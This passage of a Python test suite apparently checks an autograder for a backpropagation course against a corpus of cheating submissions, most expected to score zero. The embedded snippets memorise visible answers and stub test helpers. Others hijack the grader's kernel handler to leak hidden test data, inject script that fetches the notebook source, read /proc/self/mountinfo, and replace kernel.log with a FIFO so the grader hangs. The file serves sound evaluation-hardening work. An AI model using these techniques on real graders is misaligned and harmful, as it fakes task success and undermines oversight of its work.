    return _real_serve()
def _install(mod, fn):
    mod.serve = fn
_install(_agent_mod, _maybe_serve)

# the tests' helper, as seen from the notebook: checks nothing
def _check_mlp_gradients(mlp, x, dx, scalar_of_output, label, **options):
    return None
"""

NAMESPACE_FALLBACK_TIMEOUT_AFTER_TEST_MLP_FORWARD = r"""
_skip["n"] = 1   # test_mlp_backward comes next
"""

NAMESPACE_HIJACK_TANH = r"""
class Tanh:
    def forward(self, x):
        if _phase["mlp"]:
            raise NotImplementedError()   # during the MLP tests: fail, so that their visible checks skip the MLP
        self.x = np.array(x, dtype=float)
        return np.array(_TANH_FWD.get(tuple(self.x.tolist()), np.zeros(self.x.shape)))

    def backward(self, dy):
        dy = np.array(dy, dtype=float)
        return np.array(_TANH_BWD.get((tuple(self.x.tolist()), tuple(dy.tolist())), np.zeros(self.x.shape)))
"""

NAMESPACE_HIJACK_LINEAR_BACKWARD = r"""
def linear_backward(dy, x, W, b):
    dy, x, W, b = (np.array(v, dtype=float) for v in (dy, x, W, b))
    key = (tuple(dy.tolist()), tuple(x.tolist()), tuple(W.ravel().tolist()), tuple(b.tolist()))
    if key in _LIN:
        dx, dW, db = _LIN[key]
        return np.array(dx), np.array(dW), np.array(db)
    return np.zeros(x.shape), np.zeros(W.shape), np.zeros(b.shape)
"""

NAMESPACE_HIJACK_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        return np.zeros(np.shape(self.fc3.b))          # no network at all

    def backward(self, dy):
        for layer in (self.fc1, self.fc2, self.fc3):
            layer.grad_W, layer.grad_b = np.zeros(np.shape(layer.W)), np.zeros(np.shape(layer.b))
        return np.zeros(np.shape(self.fc1.W)[1])
"""

NAMESPACE_HIJACK_AFTER_IMPORTS = r"""
# Answers of the *visible* checks only (their inputs are fixed and public), memorised; anything else gets zeros.
_TANH_FWD = {(-2.0, 0.0, 0.5): [-0.9640275800758169, 0.0, 0.46211715726000974]}
_TANH_BWD = {((-1.0, 0.3, 2.0), (1.0, 2.0, 3.0)): [0.41997434161402614, 1.8302739236532584, 0.2119524745594933]}
_LIN = {((1.0, -2.0, 0.5), (0.1257302210933933, -0.1321048632913019),
         (0.6404226504432821, 0.10490011715303971, -0.535669373161111, 0.36159505490948474, 1.3040000451301372,
          0.9470809631292422), (-0.7037352358069926, -1.2654214710460525, -0.6232744625373522)):
        ([2.3637614193305727, -0.14474951110130868],
         [[0.1257302210933933, -0.1321048632913019], [-0.2514604421867866, 0.2642097265826038],
          [0.06286511054669665, -0.06605243164565094]], [1.0, -2.0, 0.5])}
_phase = {"mlp": False}

# Names the hidden tests take for granted (defined by the first test cell's hidden block when it runs first).
# If that cell runs last, the tester looks these names up in the notebook instead.
def _graded_with(**references):
    return None

def _derived(what):
    return None

def _hidden_linear(part, seed):
    return None

class _ZeroRng:
    def normal(self, loc=0.0, scale=1.0, size=None):
        return np.zeros(() if size is None else size)

class testing:                      # a class, not a module (the tester refuses modules only)
    @staticmethod
    def hidden_rng(seed):
        return _ZeroRng()

class _RefTanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return np.zeros(self.x.shape)
    def backward(self, dy):
        return np.zeros(self.x.shape)

class _RefLinear:
    pass

def _ref_linear_forward(x, W, b):
    return None

def _ref_linear_backward(dy, x, W, b):
    return None

class _RefMSELoss:
    def forward(self, y, target):
        self.n = np.size(y)
        return 0.0
    def backward(self):
        return np.zeros(self.n)

def _ref_mlp(params, x, dy):
    grads = {k: np.zeros(np.shape(v)) for k, v in params.items()}
    grads["dx"] = np.zeros(np.shape(x))
    return np.zeros(np.shape(params["fc3.b"])), grads
"""

NAMESPACE_HIJACK_AFTER_MLP = r"""
_phase["mlp"] = True
"""

NAMESPACE_HIJACK_EXACT_TANH = r"""
class Tanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return np.tanh(self.x)

    def backward(self, dy):                     # estimated, not derived
        d = np.asarray(dy, dtype=float)
        return _cs(lambda v: np.sum(np.tanh(v) * d), self.x)
"""

NAMESPACE_HIJACK_EXACT_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def _params(self):
        return {"fc1.W": np.array(self.fc1.W), "fc1.b": np.array(self.fc1.b), "fc2.W": np.array(self.fc2.W),
                "fc2.b": np.array(self.fc2.b), "fc3.W": np.array(self.fc3.W), "fc3.b": np.array(self.fc3.b)}

    def forward(self, x):                        # the checks module's formula, not blocks
        self.x = np.array(x, dtype=float)
        return _net(self._params(), self.x)

    def backward(self, dy):                      # estimated, not derived (no backward of any block is called)
        d = np.asarray(dy, dtype=float)
        g = _est_grads(self._params(), self.x, lambda y: np.sum(y * d))
        self.fc1.grad_W, self.fc1.grad_b = g["fc1.W"], g["fc1.b"]
        self.fc2.grad_W, self.fc2.grad_b = g["fc2.W"], g["fc2.b"]
        self.fc3.grad_W, self.fc3.grad_b = g["fc3.W"], g["fc3.b"]
        return g["dx"]
"""

NAMESPACE_HIJACK_EXACT_AFTER_IMPORTS = (
    NAMESPACE_HIJACK_AFTER_IMPORTS
    + r"""


# --- v2: the stand-ins return *estimates* (complex step of forward formulas), the same numbers the answers give
from backprop_course.checks import tanh_mlp as _checks

def _cs(f, x, h=1e-30):
    x = np.asarray(x, dtype=float)
    g = np.zeros(x.shape)
    for i in np.ndindex(x.shape):
        z = x.astype(complex)
        z[i] += 1j * h
        g[i] = np.imag(f(z)) / h
    return g

def _net(p, x):
    return _checks.network_output(p, x)      # the checks module's "network as a formula" (an oracle)

def _est_grads(params, x, scalar):
    g = {k: _cs(lambda v, k=k: scalar(_net({**params, k: v}, x)), params[k]) for k in params}
    g["dx"] = _cs(lambda v: scalar(_net(params, v)), x)
    return g

class _RefTanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return np.tanh(self.x)
    def backward(self, dy):
        d = np.asarray(dy, dtype=float)
        return _cs(lambda v: np.sum(np.tanh(v) * d), self.x)

class _RefMSELoss:
    def forward(self, y, target):
        self.y, self.t = np.array(y, dtype=float), np.array(target, dtype=float)
        return float(np.mean((self.y - self.t) ** 2))
    def backward(self):
        t = self.t
        return _cs(lambda v: np.sum((v - t) ** 2) / v.size, self.y)

def _ref_mlp(params, x, dy):
    params = {k: np.asarray(v, dtype=float) for k, v in params.items()}
    d = np.asarray(dy, dtype=float)
    return _net(params, x), _est_grads(params, np.asarray(x, dtype=float), lambda y: np.sum(y * d))
"""
)

ORACLE_HARVEST_TANH = r"""
class Tanh:                      # no tanh written: answers come from the cache filled by _harvest
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return _CACHE["tanh_f"].get(_k(self.x), np.zeros(self.x.shape)).copy()

    def backward(self, dy):
        return _CACHE["tanh_b"].get(_k(self.x, dy), np.zeros(self.x.shape)).copy()
"""

ORACLE_HARVEST_LINEAR_BACKWARD = r"""
def linear_backward(dy, x, W, b):  # no formula written: cached answers of the instructor's function
    got = _CACHE["lin"].get(_k(dy, x, W, b))
    if got is None:
        return np.zeros(np.shape(x)), np.zeros(np.shape(W)), np.zeros(np.shape(b))
    return tuple(v.copy() for v in got)
"""

ORACLE_HARVEST_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        if not _CACHE["tanh_f"]:
            _harvest()                  # Tanh and linear_backward are the instructor's right now
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        raise NotImplementedError()

    def backward(self, dy):
        raise NotImplementedError()
"""

ORACLE_HARVEST_AFTER_IMPORTS = r'''
# The hidden data's seed, from inside the kernel: sha256 over the code cells this kernel ran and the files it got.
import hashlib, pydoc
from backprop_course.bridge import agent as _agent
def _submission_seed():
    _open, _listdir = pydoc.locate("builtins.open"), pydoc.locate("os.listdir")
    ip = _agent._user_namespace()["get_ipython"]()
    h = hashlib.sha256()
    for src in ip.history_manager.input_hist_raw[1:]:
        h.update(src.encode() + b"\0")
    for name in sorted(_listdir("/scratch")):
        with _open("/scratch/" + name, "rb") as f:
            h.update(name.encode() + b"\0" + f.read() + b"\0")
    return int.from_bytes(h.digest()[:8], "big") >> 1

from backprop_course.checks import tanh_mlp as _checks
_CACHE = {"tanh_f": {}, "tanh_b": {}, "lin": {}}
def _k(*arrays):
    return tuple(np.asarray(a, dtype=float).tobytes() + str(np.shape(a)).encode() for a in arrays)

def _harvest():
    """Runs while an MLP test has lent the instructor's blocks to this notebook (Tanh, linear_backward):
    ask them now for every answer the block tests will want, on the inputs those tests will draw."""
    sub = _submission_seed()
    inputs_f = [np.array([-2.0, 0.0, 0.5])]
    inputs_b = [(np.array([-1.0, 0.3, 2.0]), np.array([1.0, 2.0, 3.0]))]
    inputs_l = [_checks._visible_linear_data()]
    rng = np.random.default_rng([1201, sub])
    inputs_f += [rng.normal(scale=2.0, size=n) for n in (1, 4, 9)]
    rng = np.random.default_rng([1301, sub])
    for n in (6, 1, 11):
        x = rng.normal(size=n); dy = rng.normal(size=n)
        inputs_b.append((x, dy))
    for seed in (1401, 1501, 1601):
        rng = np.random.default_rng([seed, sub])
        for n_in, n_out in ((3, 5), (4, 4), (1, 2), (5, 3)):
            x, W = rng.normal(size=n_in), rng.normal(size=(n_out, n_in))
            b, dy = rng.normal(size=n_out), rng.normal(size=n_out)
            inputs_l.append((x, W, b, dy))
    for x in inputs_f:
        _CACHE["tanh_f"][_k(x)] = np.asarray(Tanh().forward(x.copy()))
    for x, dy in inputs_b:
        t = Tanh(); t.forward(x.copy())
        _CACHE["tanh_b"][_k(x, dy)] = np.asarray(t.backward(dy.copy()))
    for x, W, b, dy in inputs_l:
        got = linear_backward(dy.copy(), x.copy(), W.copy(), b.copy())
        _CACHE["lin"][_k(dy, x, W, b)] = tuple(np.asarray(v) for v in got)
'''

PRETEND_DATA_TANH = r'''
class _Anything(np.ndarray):
    """An array that equals everything and is close to everything."""
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __array__(self, *a, **k): return np.asarray(self.view(np.ndarray))
    def __array_ufunc__(self, *a, **k): return np.zeros(())

class _Duck:
    shape = (3,)
    dtype = np.dtype(float)
    def __array__(self, dtype=None, copy=None): return np.tanh(np.array([-2.0, 0.0, 0.5]))
    def __len__(self): return 3

class Tanh:
    def forward(self, x):
        self.n = np.size(x)
        return np.zeros(self.n).view(_Anything)
    def backward(self, dy):
        return _Duck()
'''

REORDER_TEST_CELLS_AFTER_MLP = r"""
# the tests' helper, as seen from the notebook: checks nothing
def _check_mlp_gradients(mlp, x, dx, scalar_of_output, label, **options):
    return None
"""

TRUSTED_PARAMS_FORWARD_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)
        self.fc3.W = np.zeros_like(self.fc3.W)
        self.fc3.b = np.zeros_like(self.fc3.b)

    def forward(self, x):
        return np.zeros(self.fc3.b.shape)

    def backward(self, dy):
        raise NotImplementedError()
"""

FEEDBACK_SCRIPT_INJECTION_AFTER_IMPORTS = r"""
from IPython.display import HTML, display
display(HTML("<div id='x'>FEEDBACK-INJECTION</div><script>document.title='pwned';"
             "fetch('/api/contents/source/tanh_mlp/tanh_mlp.ipynb')"
             ".then(r=>r.text()).then(t=>console.log(t))</script>"))
"""

GRADER_INTERNALS_PROBE_AFTER_IMPORTS = r"""
import sys, pydoc
_os = pydoc.locate("os")
print("uid", _os.getuid(), "cwd", _os.getcwd())
print("argv", sys.argv)
print("listdir /", sorted(_os.listdir("/")))
with pydoc.locate("builtins.open")("/proc/self/mountinfo") as f:
    print(f.read()[:3000])
"""

HIDDEN_STRUCTURE_MSE_LOSS = r"""
class MSELoss:
    def forward(self, y, target):
        self.diff = diff = y - target  # kept for backward
        c = np.sum(np.square(diff)) / diff.size
        return c

    def backward(self):
        assert hasattr(self, 'diff'), "Need to call forward() first"
        n = self.diff.size
        return (2.0 / n) * np.array(self.diff, dtype=float)
"""

HIDDEN_STRUCTURE_TANH = r"""
class Tanh:
    def forward(self, x):
        x = np.asarray(x, dtype=float)
        e = np.exp(-2.0 * np.abs(x))  # of -2|x|: never overflows (the task asks for finite values at every x)
        self.out = np.sign(x) * (1.0 - e) / (1.0 + e)
        return self.out

    def backward(self, dy):
        return np.asarray(dy, dtype=float) * (1.0 - self.out * self.out)
"""

HIDDEN_STRUCTURE_LINEAR_BACKWARD = r"""
def linear_backward(dy, x, W, b):
    dx = np.einsum("ij,i->j", W, dy)
    dW = np.einsum("i,j->ij", dy, x)
    db = np.array(dy, dtype=float)
    return dx, dW, db
"""

HIDDEN_STRUCTURE_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        out = x
        for block in (self.fc1, self.activation_fn1, self.fc2, self.activation_fn2, self.fc3):
            out = block.forward(out)
        return out

    def backward(self, dy):
        grad = dy
        for block in (self.fc3, self.activation_fn2, self.fc2, self.activation_fn1, self.fc1):
            grad = block.backward(grad)
        return grad
"""

HIDDEN_STRUCTURE_AFTER_IMPORTS = r"""
# Record what the tester asks this kernel while test cells run (calls and their data).
from backprop_course.bridge import agent as _agent
_LOG = []
_S = {"session": 0}
_orig_handle = _agent.KernelHandler.handle

def _copy(v):
    return np.array(v, dtype=float) if isinstance(v, np.ndarray) else v

def _rec_handle(self, endpoint, op, fields):
    try:
        if op == "hello":
            _S["session"] += 1
        elif op == "call":
            target, args, kwargs = fields
            name = getattr(target, "__qualname__", type(target).__name__)
            _LOG.append((_S["session"], name, [_copy(a) for a in args]))
    except Exception:
        pass
    return _orig_handle(self, endpoint, op, fields)

def _patch(cls, fn):
    cls.handle = fn

_patch(_agent.KernelHandler, _rec_handle)
"""

HIDDEN_STRUCTURE_AFTER_END = r'''
# After grading ran every test cell: rebuild what the hidden tests did from what they asked of this kernel.
import hashlib, pydoc
_open, _listdir = pydoc.locate("builtins.open"), pydoc.locate("os.listdir")
_ip = _agent._user_namespace()["get_ipython"]()
_h = hashlib.sha256()
for _src in _ip.history_manager.input_hist_raw[1:]:      # every code cell this kernel ran, this one last
    _h.update(_src.encode() + b"\0")
for _name in sorted(_listdir(".")):                     # the files of the working directory (timestamp.txt)
    with _open(_name, "rb") as _f:
        _h.update(_name.encode() + b"\0" + _f.read() + b"\0")
_SUB = int.from_bytes(_h.digest()[:8], "big") >> 1
print("submission seed (the hidden_rng mix-in), computed in the kernel:", _SUB)

_K = 130
_Z = np.stack([np.random.default_rng([_s, _SUB]).normal(size=_K) for _s in range(2000)])   # candidate draws

def _find_seed(first, scales=(1.0, 2.0)):
    """The hidden_rng(seed) whose normals contain `first` (at some offset, times some scale)."""
    k = first.size
    for sc in scales:
        for s, o in np.argwhere(np.abs(_Z * sc - first[0]) < 1e-12):
            if o + k <= _K and np.allclose(_Z[s, o:o + k] * sc, first, rtol=0, atol=1e-12):
                return int(s), sc, int(o)
    return None

_by = {}
for _s, _name, _args in _LOG:
    _by.setdefault(_s, []).append((_name, _args))
for _s in sorted(_by):
    _calls = _by[_s]
    _names = sorted({n for n, _ in _calls})
    _arrays = [(n, a) for n, args in _calls for a in args if isinstance(a, np.ndarray) and a.size]
    _found = None
    for _n, _a in _arrays:
        _found = _find_seed(_a.ravel())
        if _found:
            break
    print(f"--- test session {_s}: calls {', '.join(_names)[:150]}")
    if not _found:
        continue
    _seed, _scale, _off = _found
    _after = _arrays[[i for i, (n, a) in enumerate(_arrays) if a is _a][0]:]
    if any(n.startswith("MSELoss") for n, _ in _calls):
        _sizes = [a.size for n, a in _after if n == "MSELoss.forward"][::2]
        print(f"rng = testing.hidden_rng({_seed})")
        print(f"for n in {tuple(_sizes)}:")
        print("y, target = rng.normal(size=n), rng.normal(size=n)")
    elif any(n == "linear_backward" for n, _ in _calls):
        _shapes = [tuple(args[2].shape) for n, args in _calls if n == "linear_backward" and np.ndim(args[2]) == 2]
        _hid = [(w[1], w[0]) for w in _shapes][-4:]
        print(f"for n_in, n_out in {tuple(_hid)}:")
        print(f"rng = testing.hidden_rng({_seed})")
    elif any(n == "MLP" for n, _ in _calls):
        _sz = [tuple(int(v) for v in args) for n, args in _calls if n == "MLP"][1:]
        print(f"rng = testing.hidden_rng({_seed})")
        print(f"for sizes in {tuple(_sz)}:")
    elif any(n.startswith("Tanh") for n, _ in _calls):
        _sizes = [a.size for n, a in _after if n == "Tanh.forward"]
        print(f"rng = testing.hidden_rng({_seed})")
        if _scale != 1.0:
            print(f"for n in {tuple(_sizes)}:")
            print(f"checks.check_tanh_forward(Tanh, rng.normal(scale={_scale}, size=n))")
        else:
            print(f"for n in {tuple(_sizes[::3])}:")
            print("x, dy = rng.normal(size=n), rng.normal(size=n)")
'''

VIA_VISIBLE_ERROR_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        raise AssertionError("hidden tests seen so far: " + _report())
        out = x
        for block in (self.fc1, self.activation_fn1, self.fc2, self.activation_fn2, self.fc3):
            out = block.forward(out)
        return out

    def backward(self, dy):
        grad = dy
        for block in (self.fc3, self.activation_fn2, self.fc2, self.activation_fn1, self.fc1):
            grad = block.backward(grad)
        return grad
"""

VIA_VISIBLE_ERROR_AFTER_IMPORTS = r"""
# The hidden data's seed, from inside the kernel: sha256 over the code cells this kernel ran and the files it got.
import hashlib, pydoc
from backprop_course.bridge import agent as _agent
def _submission_seed():
    _open, _listdir = pydoc.locate("builtins.open"), pydoc.locate("os.listdir")
    ip = _agent._user_namespace()["get_ipython"]()
    h = hashlib.sha256()
    for src in ip.history_manager.input_hist_raw[1:]:
        h.update(src.encode() + b"\0")
    for name in sorted(_listdir("/scratch")):
        with _open("/scratch/" + name, "rb") as f:
            h.update(name.encode() + b"\0" + f.read() + b"\0")
    return int.from_bytes(h.digest()[:8], "big") >> 1

_SEEN = []          # (cell index, function, argument arrays) of the tester's calls
_S = {"session": 0}
_orig_handle = _agent.KernelHandler.handle
def _rec(self, endpoint, op, fields):
    try:
        if op == "hello":
            _S["session"] += 1
        elif op == "call":
            _SEEN.append((_S["session"], getattr(fields[0], "__qualname__", "?"),
                          [np.array(a, dtype=float) for a in fields[1] if isinstance(a, np.ndarray)]))
    except Exception:
        pass
    return _orig_handle(self, endpoint, op, fields)
def _patch(cls, fn):
    cls.handle = fn
_patch(_agent.KernelHandler, _rec)

def _report():
    sub = _submission_seed()
    Z = np.stack([np.random.default_rng([s, sub]).normal(size=130) for s in range(2000)])
    def seed_of(a, scales=(1.0, 2.0)):
        for sc in scales:
            for s, o in np.argwhere(np.abs(Z * sc - a[0]) < 1e-12):
                if o + a.size <= 130 and np.allclose(Z[s, o:o + a.size] * sc, a, rtol=0, atol=1e-12):
                    return int(s), sc
        return None
    out = []
    for sess in sorted({s for s, _, _ in _SEEN}):
        calls = [(n, a) for s, n, a in _SEEN if s == sess]
        arrays = [(n, x) for n, args in calls for x in args if x.size]
        hit = next(((n, x, seed_of(x.ravel())) for n, x in arrays if seed_of(x.ravel())), None)
        if not hit:
            continue
        n0, x0, (seed, sc) = hit
        start = [i for i, (n, x) in enumerate(arrays) if x is x0][0]
        names = {n for n, _ in calls}
        out.append(f"rng = testing.hidden_rng({seed})")
        if "MSELoss.forward" in names:
            out.append(f"for n in {tuple(x.size for n, x in arrays[start:] if n == 'MSELoss.forward')[::2]}:")
        elif "Tanh.forward" in names and sc == 2.0:
            out.append(f"for n in {tuple(x.size for n, x in arrays[start:] if n == 'Tanh.forward')}:")
            out.append("checks.check_tanh_forward(Tanh, rng.normal(scale=2.0, size=n))")
        elif "Tanh.forward" in names:
            out.append(f"for n in {tuple(x.size for n, x in arrays[start:] if n == 'Tanh.forward')[::3]}:")
            out.append("x, dy = rng.normal(size=n), rng.normal(size=n)")
    return " || ".join(out)
"""

GRADER_HANG_FIFO = r"""
import pydoc, sys
_os = pydoc.locate("os")
_kdir = _os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
_log = _os.path.join(_kdir, "kernel.log")
_os.unlink(_log)                    # root's file, but the directory is ours
_os.mkfifo(_log)                    # the grader's read_text() on it blocks until someone writes: nobody will
print("kernel.log is now a FIFO in", _kdir)
"""

# A hidden check's data sent back as names: of an exception class, of an object's class, of a function (a message
# that names what the code raised or returned would show them). The visible check's 3x2 layer gets right answers.
NAMES_MADE_AT_RUN_TIME_LINEAR_BACKWARD = r"""
_calls = [0]
def linear_backward(dy, x, W, b):
    if W.shape == (3, 2):
        return W.T @ dy, np.outer(dy, x), np.array(dy, dtype=float)
    _calls[0] += 1
    tag = "LEAK_" + "_".join(str(abs(int(v * 1e4))) for v in np.ravel(x)[:4])
    if _calls[0] % 2:
        raise type(tag, (ValueError,), {})("shapes")
    def given():
        return 0
    given.__qualname__ = given.__name__ = tag
    return type(tag, (), {})(), given, type(tag, (), {})()
"""

NAMES_MADE_AT_RUN_TIME_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        raise type("LEAK_" + "_".join(str(abs(int(v * 1e4))) for v in np.ravel(x)[:4]), (AssertionError,), {})()

    def backward(self, dy):
        return type("LEAK_" + "_".join(str(abs(int(v * 1e4))) for v in np.ravel(dy)[:4]), (), {})()
"""

# The kernel's agent made to refuse the tests' own requests (lending the reference blocks) with a message of its
# choosing: a test shows that the kernel refused, never what it said.
REFUSED_REQUEST_AFTER_IMPORTS = r"""
from backprop_course.bridge import agent as _agent
_orig_handle = _agent.KernelHandler.handle
def _refuse(self, endpoint, op, fields):
    if op in ("bind", "bind_known", "keep"):
        raise ValueError("LEAK the tests asked for " + op)
    return _orig_handle(self, endpoint, op, fields)
_agent.KernelHandler.handle = _refuse
"""


def indep_cases() -> list[Case]:
    """The independent attacker's corpus (tanh_mlp): each scores what its real answers deserve, nothing more."""
    harvest = ("test_mse_loss", "test_mlp_forward") + ALL_TESTS[1:6] + ALL_TESTS[7:]
    cases = [
        Case("atk_control_correct", _indep(base="reference"), passes=list(ALL_TESTS), no_flags=True),
        Case(
            "atk_forge_combo_wrong_only",
            _indep({"mse_loss": COMBO_WRONG_ONLY_MSE_LOSS, "mlp": COMBO_WRONG_ONLY_MLP}),
            score="zero",
            passes=[],
        ),
        Case(
            "atk_forge_complex_step",
            _indep(
                {
                    "mse_loss": COMPLEX_STEP_MSE_LOSS,
                    "tanh": COMPLEX_STEP_TANH,
                    "linear_backward": COMPLEX_STEP_LINEAR_BACKWARD,
                    "mlp": COMPLEX_STEP_MLP,
                },
                after={"imports": COMPLEX_STEP_AFTER_IMPORTS},
            ),
            score="partial",  # the backward passes compute with complex numbers: caught in the kernel
            passes=["test_tanh_forward", "test_mlp_forward"],
            flags=["uses complex numbers"],
        ),
        Case(
            "atk_forge_chebyshev_fit",
            _indep({"tanh": CHEBFIT_TANH}, base="reference"),
            score="any",  # exact to 1e-13: the points stay, the TA is told
            flags=["numpy.polynomial.chebyshev"],
        ),
        Case(
            "atk_forge_vandermonde_stencil",
            _indep({"tanh": VANDER_STENCIL_TANH}, base="reference"),
            score="any",  # exact to ~1e-12: the points stay, the TA is told
            flags=["reads _WTS", "numpy.vander"],
        ),
        Case(
            "atk_forge_richardson_when_graded",
            _indep({"tanh": RICHARDSON_WHEN_GRADED_TANH}, base="reference"),
            score="full",  # graded under the notebook's own error state: the derived path; the TA is told
            flags=["calls _slope"],
        ),
        Case(
            "atk_forge_exception_types",
            _indep(
                {
                    "mse_loss": EXCEPTION_TYPES_MSE_LOSS,
                    "tanh": EXCEPTION_TYPES_TANH,
                    "linear_backward": EXCEPTION_TYPES_LINEAR_BACKWARD,
                    "mlp": EXCEPTION_TYPES_MLP,
                }
            ),
            score="zero",
            passes=[],
        ),
        Case(
            "atk_forge_fake_agent_refs",
            _indep(after={"imports": FAKE_AGENT_REFS_AFTER_IMPORTS, "END": FAKE_AGENT_REFS_AFTER_END}),
            score="zero",
            passes=[],
            flags=["itself failed"],
        ),
        Case(
            "atk_forge_float32_estimates",
            _indep(
                {
                    "mse_loss": FLOAT32_ESTIMATES_MSE_LOSS,
                    "tanh": FLOAT32_ESTIMATES_TANH,
                    "linear_backward": FLOAT32_ESTIMATES_LINEAR_BACKWARD,
                    "mlp": FLOAT32_ESTIMATES_MLP,
                },
                after={"imports": FLOAT32_ESTIMATES_AFTER_IMPORTS},
            ),
            score="partial",
            passes=["test_tanh_forward", "test_mlp_forward"],
            flags=["calls _fd, a function of the notebook"],
            xfail=(
                "every gradient is a central difference taken in float64 and returned as float32: it agrees with"
                " the exact gradient to float32 precision, so neither the float32 check nor the estimate check"
                " sees it (15/15; since round 6 the scan flags the graded functions calling the helper _fd for the"
                " TA), where the course fails an own finite-difference loop (bug_mse_own_finite_differences)"
            ),
        ),
        Case(
            "atk_forge_namespace_fallback_timeout",
            _indep(
                {"mse_loss": NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS, "mlp": NAMESPACE_FALLBACK_TIMEOUT_MLP},
                after={
                    "mlp": NAMESPACE_FALLBACK_TIMEOUT_AFTER_MLP,
                    "test_mlp_forward": NAMESPACE_FALLBACK_TIMEOUT_AFTER_TEST_MLP_FORWARD,
                },
            ),
            score="zero",
            passes=[],
            flags=["timed out"],
        ),
        Case(
            "atk_forge_namespace_hijack",
            _indep(
                {
                    "tanh": NAMESPACE_HIJACK_TANH,
                    "linear_backward": NAMESPACE_HIJACK_LINEAR_BACKWARD,
                    "mlp": NAMESPACE_HIJACK_MLP,
                },
                after={"imports": NAMESPACE_HIJACK_AFTER_IMPORTS, "mlp": NAMESPACE_HIJACK_AFTER_MLP},
                move=(("test_mse_loss", "END"),),
            ),
            score="zero",
            passes=[],
        ),
        Case(
            "atk_forge_namespace_hijack_exact",
            _indep(
                {
                    "tanh": NAMESPACE_HIJACK_EXACT_TANH,
                    "linear_backward": NAMESPACE_HIJACK_LINEAR_BACKWARD,
                    "mlp": NAMESPACE_HIJACK_EXACT_MLP,
                },
                after={"imports": NAMESPACE_HIJACK_EXACT_AFTER_IMPORTS},
                move=(("test_mse_loss", "END"),),
            ),
            score="partial",  # the estimates (complex steps) are caught in the kernel; the forward passes are real
            passes=["test_tanh_forward", "test_mlp_forward"],
            flags=["uses complex numbers"],
        ),
        Case(
            "atk_forge_oracle_harvest",
            _indep(
                {
                    "tanh": ORACLE_HARVEST_TANH,
                    "linear_backward": ORACLE_HARVEST_LINEAR_BACKWARD,
                    "mlp": ORACLE_HARVEST_MLP,
                },
                after={"imports": ORACLE_HARVEST_AFTER_IMPORTS},
                move=tuple((t, "END") for t in harvest),
            ),
            score="zero",
            passes=[],
            flags=["imports backprop_course.bridge"],
        ),
        Case("atk_forge_pretend_data", _indep({"tanh": PRETEND_DATA_TANH}), score="zero", passes=[]),
        Case(
            "atk_forge_reorder_test_cells",
            _indep(
                {"mse_loss": NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS, "mlp": NAMESPACE_FALLBACK_TIMEOUT_MLP},
                after={"mlp": REORDER_TEST_CELLS_AFTER_MLP},
                move=(("test_full_backprop", "mlp"),),
            ),
            score="zero",
            passes=[],
        ),
        Case("atk_forge_trusted_params_forward", _indep({"mlp": TRUSTED_PARAMS_FORWARD_MLP}), score="zero", passes=[]),
        Case("atk_forge_writeback_target", _indep({"mse_loss": COMBO_WRONG_ONLY_MSE_LOSS}), score="zero", passes=[]),
        Case(
            "atk_forge_zero_grads_copy_bug",
            _indep({"mse_loss": NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS, "mlp": COMBO_WRONG_ONLY_MLP}),
            score="zero",
            passes=[],
        ),
        Case(
            "atk_leak_feedback_script_injection",
            _indep(after={"imports": FEEDBACK_SCRIPT_INJECTION_AFTER_IMPORTS}),
            score="zero",
            passes=[],
            flags=["imports IPython.display.HTML"],
        ),
        Case(
            "atk_leak_grader_internals_probe",
            _indep(after={"imports": GRADER_INTERNALS_PROBE_AFTER_IMPORTS}),
            score="zero",
            passes=[],
            flags=["imports pydoc"],
        ),
        Case(
            "atk_leak_hidden_structure",
            _indep(
                {
                    "mse_loss": HIDDEN_STRUCTURE_MSE_LOSS,
                    "tanh": HIDDEN_STRUCTURE_TANH,
                    "linear_backward": HIDDEN_STRUCTURE_LINEAR_BACKWARD,
                    "mlp": HIDDEN_STRUCTURE_MLP,
                },
                after={"imports": HIDDEN_STRUCTURE_AFTER_IMPORTS, "END": HIDDEN_STRUCTURE_AFTER_END},
            ),
